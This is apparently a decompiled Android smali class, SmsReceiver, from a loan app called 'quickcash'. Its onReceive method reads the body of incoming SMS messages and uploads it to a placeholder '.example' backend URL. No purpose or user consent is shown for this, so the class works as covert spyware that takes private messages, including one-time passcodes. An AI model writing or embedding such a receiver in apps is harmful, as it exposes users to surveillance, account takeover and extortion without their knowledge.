.class public Lcom/example/quickcash/receiver/SmsReceiver;
.super Landroid/content/BroadcastReceiver;
.source "SmsReceiver.java"

.method public constructor <init>()V
    .locals 0
    invoke-direct {p0}, Landroid/content/BroadcastReceiver;-><init>()V
    return-void
.end method

# Every incoming SMS body is forwarded to the backend.
.method public onReceive(Landroid/content/Context;Landroid/content/Intent;)V
    .locals 4
    invoke-static {p2}, Landroid/provider/Telephony$Sms$Intents;->getMessagesFromIntent(Landroid/content/Intent;)[Landroid/telephony/SmsMessage;
    move-result-object v0
    array-length v1, v0
    if-eqz v1, :done
    const/4 v1, 0x0
    aget-object v1, v0, v1
    invoke-virtual {v1}, Landroid/telephony/SmsMessage;->getMessageBody()Ljava/lang/String;
    move-result-object v2
    const-string v3, "https://api.quickcash-loan.example/v2/sms/upload"
    invoke-static {v3, v2}, Lcom/example/quickcash/net/Uploader;->post(Ljava/lang/String;Ljava/lang/String;)I
    :done
    return-void
.end method
